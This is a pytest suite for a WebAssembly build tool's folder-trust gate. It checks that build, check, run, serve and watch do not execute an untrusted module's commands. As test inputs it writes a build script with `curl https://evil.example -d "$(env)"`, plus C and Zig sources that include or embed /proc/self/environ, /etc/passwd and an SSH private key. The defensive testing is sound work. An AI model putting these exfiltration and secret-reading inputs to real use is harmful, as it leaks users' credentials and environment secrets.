"""Finding 1: opening or checking a folder must not run its code until the user trusts it."""

from __future__ import annotations

import json
import os
import stat
from pathlib import Path

import pytest

from workbench.cli import main
from workbench.config.module import load_module
from workbench.config.workspace import load_workspace

REPO = Path(__file__).resolve().parents[2]
GOOD_WAT = """(module (memory (export "memory") 1)
  (func (export "alloc") (param i32) (result i32) (i32.const 1024))
  (func (export "handle") (param i32 i32) (result i32) (i32.const 0)))
"""


def _command_module(root: Path, command: str | None = None) -> Path:
    """A module whose build is a shell command that leaves a marker when it runs and
    copies a prebuilt module to $WORKBENCH_OUTPUT."""
    mod = root / "evil"
    mod.mkdir()
    (mod / "good.wat").write_text(GOOD_WAT)
    import wasmtime

    sample = REPO / "sample_modules" / "hello-wat"
    wat_file = next(sample.glob("*.wat"))
    (mod / "prebuilt.wasm").write_bytes(bytes(wasmtime.wat2wasm(wat_file.read_text())))
    command = command or 'touch "$WORKBENCH_MODULE_DIR/RAN"; cp prebuilt.wasm "$WORKBENCH_OUTPUT"'
    (mod / "module.toml").write_text(f"toolchain = \"command\"\ncommand = '{command}'\n")
    return mod


def test_build_does_not_run_an_untrusted_command(tmp_path: Path, capsys) -> None:
    mod = _command_module(tmp_path)
    assert main(["build", str(mod)]) == 2  # untrusted: a trust decision, exit 2
    assert not (mod / "RAN").exists()
    out = capsys.readouterr().out
    assert "not trusted" in out and f"workbench trust {mod}" in out
    assert "restricted mode" in out


def test_check_is_read_only_for_untrusted_folders(tmp_path: Path, capsys) -> None:
    mod = _command_module(tmp_path)
    assert main(["check", str(mod), "--json"]) == 2  # untrusted: exit 2
    assert not (mod / "RAN").exists()
    doc = json.loads(capsys.readouterr().out)
    assert doc["modules"][0]["error"]["kind"] == "untrusted"
    assert "shell command" in doc["modules"][0]["error"]["message"]


@pytest.mark.parametrize("command", ["run", "replay"])
def test_run_and_replay_do_not_build_untrusted(command: str, tmp_path: Path, capsys) -> None:
    mod = _command_module(tmp_path)
    (mod / "requests").mkdir()
    (mod / "requests" / "a.hurl").write_text("GET http://x/\nHTTP 200\n")
    argv = ["run", str(mod)] if command == "run" else ["replay", str(mod)]
    assert main(argv) == 2
    assert not (mod / "RAN").exists()
    err = capsys.readouterr().err
    assert "not trusted" in err and "workbench trust" in err and "Traceback" not in err


def test_trust_records_a_digest_and_asks_again_after_a_change(tmp_path: Path, capsys) -> None:
    from workbench.config.folder_trust import config_dir, trust_status
    mod = _command_module(tmp_path)
    assert main(["trust", str(mod), "--json"]) == 0
    doc = json.loads(capsys.readouterr().out)
    assert doc["modules"][0]["needs_trust"] and doc["modules"][0]["digest"].startswith("sha256:")
    record = config_dir() / "trust.toml"
    assert stat.S_IMODE(record.stat().st_mode) == 0o600
    assert str(mod) in record.read_text()
    assert main(["build", str(mod)]) == 0
    assert (mod / "RAN").exists()
    # what runs changed: the module is untrusted again, and says it changed
    text = (mod / "module.toml").read_text().replace("touch", "touch -c")
    (mod / "module.toml").write_text(text)
    status = trust_status(load_module(mod))
    assert not status.trusted and status.changed
    (mod / "RAN").unlink()
    assert main(["build", str(mod)]) == 2  # untrusted: a trust decision, exit 2
    assert not (mod / "RAN").exists()
    assert "changed since you trusted it" in capsys.readouterr().out


def test_a_build_script_change_asks_again(tmp_path: Path) -> None:
    from workbench.config.folder_trust import trust_status
    mod = _command_module(tmp_path, command="sh ./build.sh")
    (mod / "build.sh").write_text('cp prebuilt.wasm "$WORKBENCH_OUTPUT"\n')
    assert main(["trust", str(mod)]) == 0
    assert trust_status(load_module(mod)).trusted
    (mod / "build.sh").write_text('curl https://evil.example -d "$(env)"\n')
    assert not trust_status(load_module(mod)).trusted


def test_trust_flag_and_env_var(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    mod = _command_module(tmp_path)
    assert main(["build", "--trust", str(mod)]) == 0
    (mod / "RAN").unlink()
    monkeypatch.setenv("WORKBENCH_TRUST", "1")
    assert main(["build", str(mod)]) == 0
    assert (mod / "RAN").exists()


def test_restricted_mode_runs_the_module_built_earlier(tmp_path: Path, capsys) -> None:
    mod = _command_module(tmp_path)
    assert main(["build", "--trust", str(mod)]) == 0
    (mod / "RAN").unlink()
    capsys.readouterr()
    code = main(["run", str(mod), "--json"])
    captured = capsys.readouterr()
    assert code == 0 and not (mod / "RAN").exists()
    assert json.loads(captured.out)["status"] == 200
    assert "not trusted" in captured.err and "built earlier" in captured.err


def test_gated_build_result_says_what_did_not_run(tmp_path: Path) -> None:
    from workbench.services.folder_trust import gated_build
    result = gated_build(load_module(_command_module(tmp_path)))
    assert result.untrusted and not result.ok and result.wasm_path is None
    assert result.to_json()["untrusted"] is True
    assert "runs the shell command" in result.output


def test_bundled_samples_build_untrusted() -> None:
    """WAT, and C/Zig whose includes stay in the folder, run nothing of the folder's.
    (The optional ones need trust when listed: hello-rust runs cargo, hello-wasi-http-py
    its build.sh.)"""
    from workbench.config.codescan import code_runs
    ws = load_workspace([REPO / "sample_modules"])
    assert {m.toolchain for m in ws.modules} >= {"wat", "c", "zig"}
    plain = [m for m in ws.modules if m.toolchain not in ("rust", "command")]
    assert {m.name: code_runs(m) for m in plain} == {m.name: () for m in plain}
    says = {"rust": "runs cargo", "command": "runs the shell command"}
    for m in ws.modules:
        if m.toolchain in says:
            assert says[m.toolchain] in " ".join(r.reason for r in code_runs(m)), m.name


def _c_module(tmp_path: Path, source: str, **files: str) -> Path:
    mod = tmp_path / "c"
    mod.mkdir(exist_ok=True)
    (mod / "main.c").write_text(source)
    for name, text in files.items():
        (mod / name).write_text(text)
    return mod


@pytest.mark.parametrize("source", [
    '#include "/proc/self/environ"\n',
    '#  include "../../../../../../proc/self/environ"\n',
    '#include </proc/self/environ>\n',
    '#define F "/proc/self/environ"\n#include F\n',
    '#/* hidden */include "/etc/passwd"\n',
    '%:include "/etc/passwd"\n',
    '#include \\\n "/etc/passwd"\n',
    'const char k[] = {\n#embed "/home/user/.ssh/id_rsa"\n};\n',
    '#include "local.h"\n',  # local.h itself includes the environment
])
def test_c_includes_leaving_the_folder_need_trust(tmp_path: Path, source: str) -> None:
    from workbench.config.codescan import code_runs
    from workbench.services.folder_trust import gated_build
    mod = _c_module(tmp_path, source, **{"local.h": '#include "/proc/self/environ"\n'})
    runs = code_runs(load_module(mod))
    assert runs, source
    assert not gated_build(load_module(mod)).ok


def test_c_symlinked_header_and_flags_need_trust(tmp_path: Path) -> None:
    from workbench.config.codescan import code_runs
    mod = _c_module(tmp_path, '#include "env.h"\nint x;\n')
    os.symlink("/proc/self/environ", mod / "env.h")
    assert "outside the folder" in code_runs(load_module(mod))[0].reason
    other = tmp_path / "flags"
    other.mkdir()
    (other / "main.c").write_text("int x;\n")
    (other / "module.toml").write_text('flags = ["-fplugin=./evil.so"]\n')
    assert "flags" in code_runs(load_module(other))[0].reason


def test_c_with_local_and_system_headers_is_safe(tmp_path: Path) -> None:
    from workbench.config.codescan import code_runs
    mod = _c_module(tmp_path, '#include <stdint.h>\n#include "edge.h"\n// #include "/x"\n',
                    **{"edge.h": "#include <stddef.h>\n"})
    assert code_runs(load_module(mod)) == ()


@pytest.mark.parametrize("source", ['const e = @embedFile("/proc/self/environ");\n',
                                    'const c = @cImport(@cInclude("../../../etc/passwd"));\n'])
def test_zig_reads_outside_need_trust(tmp_path: Path, source: str) -> None:
    from workbench.config.codescan import code_runs
    mod = tmp_path / "z"
    mod.mkdir()
    (mod / "main.zig").write_text('const std = @import("std");\n' + source)
    assert code_runs(load_module(mod))


def test_watch_builds_through_the_gate(tmp_path: Path) -> None:
    """`workbench watch` hands the Watcher this builder (cli/commands/watch.py)."""
    from workbench.services.folder_trust import builder

    mod = _command_module(tmp_path)
    result = builder(False)(load_module(mod))
    assert result.untrusted and not (mod / "RAN").exists()
    assert builder(True)(load_module(mod)).ok and (mod / "RAN").exists()


def test_the_app_build_worker_is_gated(tmp_path: Path) -> None:
    from types import SimpleNamespace

    from workbench.core.errors import BuildFailed
    from workbench.tui.jobs import build

    mod = _command_module(tmp_path)
    with pytest.raises(BuildFailed) as exc:
        build(SimpleNamespace(config=load_module(mod)))  # type: ignore[arg-type]
    assert "not trusted" in str(exc.value) and not (mod / "RAN").exists()


def test_trust_show_and_revoke(tmp_path: Path, capsys) -> None:
    from workbench.config.folder_trust import trust_status

    mod = _command_module(tmp_path)
    assert main(["trust", "--show", str(mod)]) == 0
    assert "not trusted" in capsys.readouterr().out
    assert not trust_status(load_module(mod)).trusted  # --show records nothing
    assert main(["trust", str(mod)]) == 0
    assert trust_status(load_module(mod)).trusted
    assert main(["trust", "--revoke", str(mod)]) == 0
    assert not trust_status(load_module(mod)).trusted


def test_the_app_watcher_and_flag_use_the_gate() -> None:
    """The app's rebuild-on-save passes the gated builder; `workbench --trust` exists."""
    import inspect

    from workbench.tui import launch, loop

    assert "build=trust_builder(False)" in inspect.getsource(loop)
    assert launch.app_parser().parse_args(["--trust", "x"]).trust is True


def test_a_command_naming_its_output_stays_trusted_after_a_build(tmp_path: Path) -> None:
    """The build writes build/evil.wasm; the command names it, yet that is output, not
    something the build runs: trusting once must last past the first build."""
    from workbench.config.folder_trust import trust_status

    mod = _command_module(tmp_path, 'mkdir -p build; cp prebuilt.wasm build/evil.wasm')
    assert main(["trust", str(mod)]) == 0
    assert main(["build", str(mod)]) == 0
    assert (mod / "build" / "evil.wasm").is_file()
    status = trust_status(load_module(mod))
    assert status.trusted and not status.changed
    (mod / "prebuilt.wasm").write_bytes(b"\0asm\1\0\0\0")  # a file the command names
    assert trust_status(load_module(mod)).changed  # may be code: asked again (conservative)


def _serve_routes(*argv: str) -> tuple[dict, str]:
    """Start the installed `workbench serve` (port 0, no reload), read its route table
    (JSON), stop it: (routes event, stderr)."""
    import subprocess

    proc = subprocess.Popen(["workbench", "serve", *argv, "--listen", "127.0.0.1:0",
                             "--no-reload", "--json"], stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True, env=dict(os.environ))
    try:
        assert proc.stdout is not None
        for line in proc.stdout:
            if '"routes"' in line:
                return json.loads(line), ""
        return {}, proc.stderr.read() if proc.stderr else ""
    finally:
        proc.terminate()
        proc.wait(30)


def test_serve_does_not_run_an_untrusted_build_and_says_how(tmp_path: Path) -> None:
    """`workbench serve` built modules with build_module directly: an untrusted folder's
    build command ran (the other commands go through the trust gate)."""
    import subprocess

    mod = _command_module(tmp_path)
    out = subprocess.run(["workbench", "serve", str(mod), "--listen", "127.0.0.1:0",
                          "--no-reload", "--json"], capture_output=True, text=True,
                         timeout=120, env=dict(os.environ))
    assert not (mod / "RAN").exists(), "serve ran an untrusted folder's build command"
    # nothing it could serve: it says why and how to trust, and does not start (exit 1)
    assert out.returncode == 1, out.stdout + out.stderr
    events = [json.loads(line) for line in out.stdout.splitlines() if line.strip()]
    warning = next(e["message"] for e in events if e.get("event") == "warning")
    assert "not built" in warning and f"workbench trust {mod}" in warning, warning
    assert not any(e.get("event") == "listening" for e in events)
    assert "the server was not started" in out.stderr


def test_serve_trust_flag_builds_and_serves(tmp_path: Path) -> None:
    mod = _command_module(tmp_path)
    routes, err = _serve_routes(str(mod), "--trust")
    assert (mod / "RAN").exists(), err
    (route,) = routes["routes"]
    assert "build 1" in route["state"], route


def test_serve_live_reload_builds_through_the_gate(tmp_path: Path) -> None:
    from workbench.services.serve.load import ServeOptions
    from workbench.services.serve.reload import LiveReload

    captured: dict[str, object] = {}

    class _Watcher:
        def __init__(self, modules: object, **kwargs: object) -> None:
            captured.update(kwargs)

        def run(self, stop: object) -> None:
            pass

    import workbench.core.build.watch as watch_mod

    real = watch_mod.Watcher
    watch_mod.Watcher = _Watcher  # type: ignore[misc, assignment]
    try:
        mod = _command_module(tmp_path)
        cfg = load_module(mod)
        loaded = type("L", (), {"modules": [cfg], "debounce_ms": None})()
        server = type("S", (), {"table": type("T", (), {"routes": []})()})()
        LiveReload(server, loaded, ServeOptions()).start()  # type: ignore[arg-type]
    finally:
        watch_mod.Watcher = real  # type: ignore[misc]
    build = captured["build"]
    result = build(cfg)  # type: ignore[operator]
    assert result.untrusted and not (mod / "RAN").exists()
